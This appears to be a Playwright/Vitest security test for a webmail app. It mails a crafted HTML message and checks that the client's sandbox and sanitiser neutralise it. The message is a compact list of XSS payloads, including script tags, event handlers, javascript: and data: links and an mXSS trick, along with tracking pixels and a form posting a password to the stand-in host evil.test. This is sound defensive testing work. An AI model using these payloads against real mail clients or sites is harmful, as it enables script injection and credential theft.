import nodemailer from 'nodemailer';
import type { Browser, Frame } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { apiJson, launchBrowser, openContext, screenshot, signIn } from './browser';
import { startTestHost, waitFor, type TestHost } from './helpers';

const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');

/** A hostile HTML message: every way we know to run script, submit data, leave the page, or phone home. */
const HOSTILE = `<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url=http://evil.test/refresh">
<base href="http://evil.test/">
<link rel="stylesheet" href="http://evil.test/link.css">
<style>@import url(http://evil.test/import.css); body { background: url('http://evil.test/bg.png') } .esc { background-image: \\75 rl(http://evil.test/escaped.png) } .set { background-image: image-set("http://evil.test/set.png" 1x) }</style>
</head><body onload="parent.pwned='onload';alert('onload')">
<p id="hello">Hello <b>security</b></p>
<script>parent.pwned='script';alert('script')</script>
<img id="tracker" src="http://evil.test/pixel.png" alt="tracker" width="20" height="20">
<img src="x" onerror="parent.pwned='onerror';alert('onerror')">
<img srcset="http://evil.test/srcset.png 2x">
<div id="styled" style="background:url(http://evil.test/inline.png)" onmouseover="parent.pwned='hover'">styled</div>
<a id="js" href="javascript:parent.pwned='js-link';alert('js')">js link</a>
<a id="data" href="data:text/html,<script>alert('data')</script>">data link</a>
<a id="web" href="https://example.org/page">web link</a>
<form id="steal" action="http://evil.test/steal" method="post"><input name="password" value="secret"><button type="submit">Submit</button></form>
<iframe src="http://evil.test/frame"></iframe>
<svg><image href="http://evil.test/svg.png" width="10" height="10"/><script>parent.pwned='svg';alert('svg')</script><a xlink:href="javascript:alert('svg-link')"><text y="20">svg link</text></a></svg>
<object data="http://evil.test/object.swf"></object><embed src="http://evil.test/embed.swf">
<video poster="http://evil.test/poster.png" src="http://evil.test/video.mp4"></video>
<table background="http://evil.test/table.png"><tr><td>cell</td></tr></table>
<math><mtext><table><mglyph><style><img src=x onerror="parent.pwned='mxss';alert('mxss')"></style></mglyph></table></mtext></math>
</body></html>`;

// the callbacks given to page.evaluate run in Chromium; this project compiles without DOM types
declare const document: any, window: any;

describe('webmail security in Chromium: hostile HTML mail', () => {
  let host: TestHost;
  let browser: Browser;
  let id = '';

  beforeAll(async () => {
    host = await startTestHost();
    browser = await launchBrowser();
    const transport = nodemailer.createTransport({ host: '127.0.0.1', port: host.smtpPort, secure: false, ignoreTLS: true });
    await transport.sendMail({ from: 'mallory@evil.test', to: 'admin@example.com', subject: 'Totally harmless', html: HOSTILE, text: 'Hello security' });
    id = await waitFor(async () => {
      const items = (await apiJson(host, '/mails', { token: host.token })).items;
      return items.find((m: { subject: string }) => m.subject === 'Totally harmless')?.id;
    });
  });
  afterAll(async () => {
    await browser?.close();
    await host?.destroy();
  });

  it('runs no script, opens no dialog, submits nothing, loads nothing remote until allowed; links open in a new tab without opener', async () => {
    const w = await openContext(browser);
    const { page, context } = w;
    // the remote host answers (an image) so that "allowed" can be seen working; every request to it is recorded
    const remote: string[] = [];
    await context.route('http://evil.test/**', (route) => {
      remote.push(route.request().url());
      return route.request().url().endsWith('.png') ? route.fulfill({ status: 200, contentType: 'image/png', body: PNG }) : route.fulfill({ status: 404, body: '' });
    });
    await signIn(page, host, `/mail/inbox/${id}`);
    await page.getByRole('heading', { name: 'Totally harmless' }).waitFor();
    const iframe = page.locator('iframe.html-body');
    await iframe.waitFor();
    const frame = (await iframe.elementHandle())!.contentFrame() as Promise<Frame | null>;
    const body = (await frame)!;
    await body.locator('#hello').waitFor();

    // the frame: sandboxed without scripts, forms, or top navigation
    expect((await iframe.getAttribute('sandbox'))!.split(/\s+/).sort()).toEqual(['allow-popups', 'allow-popups-to-escape-sandbox', 'allow-same-origin']);
    // what is left of the message: text, safe links; no active or remote parts
    const inside = await body.evaluate(() => ({
      text: document.body.innerText,
      dangerous: document.querySelectorAll('script, form, input, button, iframe, object, embed, meta[http-equiv=refresh], base, link, video').length,
      handlers: [...document.querySelectorAll('*')].flatMap((el) => [...el.attributes].filter((a) => a.name.startsWith('on')).map((a) => `${el.tagName} ${a.name}`)),
      remoteRefs: [...document.querySelectorAll('*')].flatMap((el) => [...el.attributes].filter((a) => /evil\.test/.test(a.value)).map((a) => `${el.tagName} ${a.name}`)),
      styles: [...document.querySelectorAll('style')].map((s) => s.textContent ?? '').join('\n'),
      links: [...document.querySelectorAll('a')].map((a) => ({ id: a.id, href: a.getAttribute('href'), target: a.getAttribute('target'), rel: a.getAttribute('rel') })),
    }));
    expect(inside.text).toContain('Hello security');
    expect(inside.dangerous).toBe(0);
    expect(inside.handlers).toEqual([]);
    expect(inside.remoteRefs).toEqual([]);
    expect(inside.styles).not.toMatch(/evil\.test/);
    expect(inside.links.find((l) => l.id === 'web')).toEqual({ id: 'web', href: 'https://example.org/page', target: '_blank', rel: 'noopener noreferrer' });
    expect(inside.links.find((l) => l.id === 'js')!.href).toBeNull();
    expect(inside.links.find((l) => l.id === 'data')!.href).toBeNull();

    // clicking what used to be script links does nothing
    await body.locator('#js').click();
    await body.locator('#data').click();
    await body.locator('#styled').hover();
    await page.getByText(/Remote images and other content from the internet are blocked/).waitFor();
    await screenshot(page, 'desktop-remote-blocked');

    expect(await page.evaluate(() => (window as unknown as { pwned?: string }).pwned ?? null)).toBeNull();
    expect(w.dialogs).toEqual([]);
    expect(w.pageErrors).toEqual([]);
    expect(w.consoleErrors).toEqual([]);
    expect(remote).toEqual([]);
    expect(w.offsite).toEqual([]);

    // allowed for this message: the remote images load (so the blocking above was ours), still nothing runs
    await page.getByRole('button', { name: 'Show remote content' }).click();
    await expect.poll(() => remote.filter((u) => u.endsWith('/pixel.png')).length, { timeout: 10_000 }).toBeGreaterThan(0);
    const reloaded = (await (await iframe.elementHandle())!.contentFrame())!;
    await expect.poll(() => reloaded.locator('#tracker').evaluate((img: any) => img.complete && img.naturalWidth)).toBe(1);
    expect(remote.filter((u) => /steal|frame|object|embed|video|refresh|link\.css/.test(u))).toEqual([]);
    expect(await page.evaluate(() => (window as unknown as { pwned?: string }).pwned ?? null)).toBeNull();
    expect(w.dialogs).toEqual([]);
    expect(w.pageErrors).toEqual([]);

    // a web link opens a new tab that cannot reach back to this one
    const [popup] = await Promise.all([context.waitForEvent('page'), reloaded.locator('#web').click()]);
    expect(await popup.evaluate(() => window.opener)).toBeNull();
    await popup.close();
    expect(w.offsite).toEqual(['https://example.org/page']);
    expect(await page.evaluate(() => (window as unknown as { pwned?: string }).pwned ?? null)).toBeNull();
  });

  it("another message's remote content stays blocked, and the choice is per message", async () => {
    const transport = nodemailer.createTransport({ host: '127.0.0.1', port: host.smtpPort, secure: false, ignoreTLS: true });
    await transport.sendMail({ from: 'news@shop.test', to: 'admin@example.com', subject: 'Newsletter', html: '<p>Deals</p><img src="https://shop.test/open.gif?u=admin">' });
    const other = await waitFor(async () => (await apiJson(host, '/mails', { token: host.token })).items.find((m: { subject: string }) => m.subject === 'Newsletter')?.id);
    const w = await openContext(browser);
    await signIn(w.page, host, `/mail/inbox/${other}`);
    await w.page.getByRole('button', { name: 'Show remote content' }).waitFor();
    expect(w.offsite).toEqual([]);
  });

  it("cid: images show from the message's own attachments with nothing remote to allow; a mailto: link opens compose", async () => {
    const transport = nodemailer.createTransport({ host: '127.0.0.1', port: host.smtpPort, secure: false, ignoreTLS: true });
    await transport.sendMail({
      from: 'designer@studio.test',
      to: 'admin@example.com',
      subject: 'Logo inline',
      html: '<p>Our logo: <img id="logo" src="cid:logo@studio.test" alt="logo"></p><p><a id="mailto-link" href="mailto:someone@example.net">write to someone</a></p>',
      attachments: [{ filename: 'logo.png', content: PNG, contentType: 'image/png', cid: 'logo@studio.test' }],
    });
    const logoId = await waitFor(async () => (await apiJson(host, '/mails', { token: host.token })).items.find((m: { subject: string }) => m.subject === 'Logo inline')?.id);
    const w = await openContext(browser);
    await signIn(w.page, host, `/mail/inbox/${logoId}`);
    const frame = (await (await w.page.locator('iframe.html-body').elementHandle())!.contentFrame())!;
    await expect.poll(() => frame.locator('#logo').evaluate((img: any) => img.complete && img.naturalWidth), { timeout: 10_000 }).toBe(1);
    expect(await frame.locator('#logo').getAttribute('src')).toMatch(/^blob:/);
    expect(await w.page.getByRole('button', { name: 'Show remote content' }).count()).toBe(0);
    // the inline image is part of the message, not listed again as a file
    expect(await w.page.getByRole('region', { name: 'Attachments' }).count()).toBe(0);
    await frame.locator("#mailto-link").click();
    await w.page.getByRole('heading', { name: 'New message' }).waitFor();
    expect(await w.page.locator('.chip').allInnerTexts()).toEqual([expect.stringContaining('someone@example.net')]);
    expect(w.offsite).toEqual([]);
    // Chromium logs "Blocked script execution in 'about:srcdoc'…" for mouse input over a frame sandboxed
    // without allow-scripts, even one with no script and no listener in it (seen with a bare srcdoc
    // frame): it reports the sandbox holding, not a script. Anything else is a failure.
    expect(w.consoleErrors.filter((e) => !e.startsWith("Blocked script execution in 'about:srcdoc' because the document's frame is sandboxed"))).toEqual([]);
  });
});
